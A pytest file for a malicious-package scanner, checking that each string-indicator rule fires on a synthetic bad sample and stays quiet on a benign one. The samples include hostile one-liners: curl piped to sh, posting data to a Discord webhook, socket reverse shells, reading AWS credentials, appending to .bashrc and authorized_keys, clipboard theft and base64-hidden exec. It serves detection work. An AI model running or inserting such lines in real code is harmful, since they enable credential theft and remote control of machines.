"""String indicators: each rule with a positive and a negative synthetic example."""

from __future__ import annotations

import base64
import itertools
import random

import pytest

from mphunter_gate.analysis import analyse
from mphunter_gate.analysis.indicators import find, names, rules
from mphunter_gate.types import Indicator, Script, ScriptKind

# (rule, text that must fire it, benign-looking text that must not)
CASES = [
    (
        "shell_interpreter",
        "subprocess.Popen('powershell -nop -c whoami')",
        "subprocess.check_output(['git', 'describe', '--tags'])",
    ),
    (
        "encoded_command",
        "cmd = 'pwsh -enc " + "QUFB" * 12 + "'",
        "args = ['-e', 'python/packaging/client']",
    ),
    (
        "hidden_execution",
        "subprocess.Popen(c, creationflags=subprocess.CREATE_NO_WINDOW)",
        "subprocess.run(['make'], check=True)",
    ),
    (
        "download_execute",
        "os.system('curl -s http://example.invalid/x | sh')",
        "os.system('curl --version')",
    ),
    (
        "executable_payload",
        "urlretrieve('https://example.invalid/tool.exe', p)",
        "url = 'https://example.invalid/docs/index.html'",
    ),
    (
        "exfil_service",
        "requests.post('https://discord.com/api/webhooks/1/abc', data=d)",
        "url='https://github.com/org/project'",
    ),
    ("raw_ip_endpoint", "s.connect(('198.51.100.4', 4444))", "version = '1.2.3.4'"),
    (
        "credential_store",
        "p = os.path.join(home, '.aws/credentials')",
        "p = os.path.join(here, 'README.md')",
    ),
    ("persistence_location", "open(os.path.expanduser('~/.bashrc'), 'a')", "open('setup.cfg')"),
    ("user_profile_write", "d = os.getenv('APPDATA')", "d = os.getenv('HOME_TOOLS_DIR')"),
    (
        "long_encoded_blob",
        "blob = '" + "QUJD" * 120 + "'",
        "long_description = 'A small library. ' * 3",
    ),
    (
        "persistence_location",
        "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(key)",
        "open(os.path.expanduser('~/.ssh/config'))",
    ),
    (
        "reverse_shell",
        "os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')",
        "os.dup2(fd, 1)",
    ),
    (
        "reverse_shell",
        "subprocess.call(['/bin/bash', '-i'], stdin=s)",
        "subprocess.call(['/bin/bash', 'build.sh'])",
    ),
    (
        "clipboard_access",
        "subprocess.check_output(['xclip', '-selection', 'clipboard', '-o'])",
        "subprocess.check_output(['xz', '-d', path])",
    ),
    (
        "wallet_address",
        "re.sub(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', mine, text)",
        "re.sub(r'[a-z]{3}', x, text)",
    ),
    (
        "wallet_address",
        "ADDR = '0x" + "ab12" * 10 + "'",
        "MASK = '0xffffffff'",
    ),
    (
        "self_delete",
        "os.remove(os.path.abspath(__file__))",
        "os.remove(os.path.join(tmp, 'build.log'))",
    ),
    (
        "build_tool_command",
        "subprocess.check_call(['cmake', '--build', '.'])",
        "subprocess.check_call(['curl', '-o', path, url])",
    ),
]


def test_every_rule_has_a_case() -> None:
    assert {c[0] for c in CASES} == set(names())


@pytest.mark.parametrize(
    ("rule", "bad", "good"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)]
)
def test_rule_fires_only_on_the_behaviour(rule: str, bad: str, good: str) -> None:
    fired = {i.name for i in find(bad, "setup.py")}
    assert rule in fired
    assert rule not in {i.name for i in find(good, "setup.py")}


def test_indicator_points_at_the_line() -> None:
    text = "import os\n\nos.system('powershell -w hidden -c x')\n"
    hits = find(text, "pkg/setup.py")
    assert ("shell_interpreter", "pkg/setup.py", 3) in {(i.name, i.file, i.line) for i in hits}


def test_decoded_payload_is_scanned() -> None:
    hidden = base64.b64encode(b"import os; os.system('powershell -c whoami')").decode()
    src = f"import base64\nexec(base64.b64decode('{hidden}'))\n"
    a = analyse(Script("setup.py", ScriptKind.SETUP, src))
    assert "shell_interpreter" in {i.name for i in a.indicators}


def test_hits_per_rule_are_bounded() -> None:
    text = "\n".join("x = 'powershell'" for _ in range(1000))
    assert len([i for i in find(text, "s.py") if i.name == "shell_interpreter"]) == 3


@pytest.mark.parametrize(
    ("rule", "bad", "good"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)]
)
def test_rules_ignore_case_and_quote_the_original_text(rule: str, bad: str, good: str) -> None:
    shouted = bad.upper()
    hits = [i for i in find(shouted, "setup.py") if i.name == rule]
    assert hits, shouted
    assert all(i.excerpt in shouted for i in hits)


def test_ascii_lower_keeps_every_offset() -> None:
    from mphunter_gate.analysis.indicators import ascii_lower

    text = "PowerShell \u212a \u0130 \udcff \u00c9X"  # Kelvin sign, dotted I, lone surrogate
    low = ascii_lower(text)
    assert low == "powershell \u212a \u0130 \udcff \u00c9x"
    assert len(low) == len(text)
    assert ascii_lower("ABC") == "abc"


def test_guard_never_hides_a_match() -> None:
    from mphunter_gate.analysis.indicators import ascii_lower, rules

    texts = [
        "s.connect(('198.51.100.4', 4444))",
        's.connect( ( "10.0.0.1" , 80 ) )',
        "urlopen('http://192.0.2.10:8080/x')",
        "u = 'https://203.0.113.255/a'; v = 'tcp://1.2.3.4'; w = 'udp://9.9.9.9'",
        "version = '1.2.3.4'",
        "x = ('1.2.3', 80)",
    ]
    guarded = [r for r in rules() if r.guard is not None]
    assert guarded
    for rule in guarded:
        for text in texts:
            low = ascii_lower(text)
            if rule.pattern.search(low):
                assert rule.may_match(low), (rule.name, text)
    ip = next(r for r in rules() if r.name == "raw_ip_endpoint")
    assert not ip.may_match("setup(name='x', version='1.2.3')")


# The scan's shortcuts (one pass for every needle, anchors) must give what searching
# the whole text with every rule gives; these texts are built to hit each shortcut.
SHORTCUT_CASES = [
    # a needle after thousands of characters of arithmetic
    ("shell_interpreter", "x = ((1 << 3) + 1, 2)\n" * 400 + "os.system('powershell -c x')"),
    # non-ASCII and a lone surrogate next to the needle
    ("shell_interpreter", "\u99ac \udcff powershell -c x \u99ac"),
    # one of several needles sharing a prefix (`oast.`)
    ("exfil_service", "u = 'https://abc.oast.online/x'"),
    ("exfil_service", "u = 'https://x.NGROK-FREE.APP/'"),
    # anchors at a distance: `(^|\s)-e` at the very start and after a tab
    ("encoded_command", "-enc " + "QUFB" * 12),
    ("encoded_command", "a\t-e " + "QUFB" * 12),
    # more anchor occurrences than tries: the search falls back to `re` mid-text
    ("shell_interpreter", "cmdx " * 5000 + "cmd /c whoami"),
    ("hidden_execution", "if a > b:\n" * 3000 + "os.system('nohup ./x &')"),
    ("long_encoded_blob", "x = ''\n" * 3000 + "b = '" + "QUJD" * 120 + "'"),
]


def _plain_find(text: str, path: str) -> tuple[Indicator, ...]:
    """What `find` gave before the shortcuts: every rule searched over the whole text."""
    from mphunter_gate.analysis.indicators import MAX_HITS_PER_RULE, MAX_SCAN, _clean, ascii_lower

    body = text[:MAX_SCAN]
    low = ascii_lower(body)
    out = []
    for rule in rules():
        for m in itertools.islice(rule.pattern.finditer(low), MAX_HITS_PER_RULE):
            line = body.count("\n", 0, m.start()) + 1
            out.append(Indicator(rule.name, path, line, _clean(body[m.start() : m.end()])))
    return tuple(out)


@pytest.mark.parametrize(("rule", "text"), SHORTCUT_CASES)
def test_shortcuts_never_skip_a_match(rule: str, text: str) -> None:
    hits = find(text, "setup.py")
    assert rule in {i.name for i in hits}
    assert hits == _plain_find(text, "setup.py")


@pytest.mark.parametrize(
    "text",
    [
        "power-shell and Power\u99acShell",  # pieces of a needle, apart
        "o-ast.fun; n.grok.io",
        "-" * 50 + "e" * 50,
    ],
)
def test_near_misses_fire_nothing(text: str) -> None:
    assert find(text, "setup.py") == _plain_find(text, "setup.py") == ()


def _synthetic_texts() -> list[str]:
    """Random texts from the rules' own strings, in both cases, with separators and noise."""
    pieces = sorted(
        {a.needle for r in rules() for a in r.starts or ()}
        | {n for r in rules() for n in r.needles or ()}
    )
    pieces += [p.upper() for p in pieces[::3]]
    pieces += [" ", "\n", "\t", "'", '"', "(", ")", "/", ".", "-", ">", "x", "\u99ac", "\udcff"]
    pieces += ["cmd /c", "-enc " + "QUFB" * 12, " | sh", "'" + "QUJD" * 110 + "'"]
    pieces += ["('10.0.0.1', 4444)", "https://10.1.2.3/", "urlretrieve(u, 'p.bat')"]
    rng = random.Random(7)
    return ["".join(rng.choice(pieces) for _ in range(rng.randint(1, 60))) for _ in range(1500)]


def test_find_equals_the_plain_search() -> None:
    for text in _synthetic_texts():
        assert find(text, "s.py") == _plain_find(text, "s.py"), text


def test_anchored_search_yields_every_match_in_order() -> None:
    from mphunter_gate.analysis.indicators import _Scan, ascii_lower

    texts = _synthetic_texts() + [t for _, t in SHORTCUT_CASES]
    for text in texts:
        scan = _Scan(ascii_lower(text))
        for rule in rules():
            expected = [m.span() for m in rule.pattern.finditer(scan.low)]
            assert [m.span() for m in rule._matches(scan)] == expected, (rule.name, text)


def test_scan_finds_what_str_find_finds() -> None:
    from mphunter_gate.analysis.indicators import _Scan, ascii_lower

    needles = {n for r in rules() for n in r.needles or ()}
    needles |= {s.needle for r in rules() for s in r.starts or ()}
    assert any(len(n) == 1 for n in needles)  # those are looked for with str.find
    for text in [*_synthetic_texts()[:300], "oast.oast.fun", "aaa" + "http" * 3]:
        scan = _Scan(ascii_lower(text))
        for needle in needles:
            assert scan.first(needle) == scan.low.find(needle), (needle, text)
            assert scan.find(needle, 7) == scan.low.find(needle, 7), (needle, text)
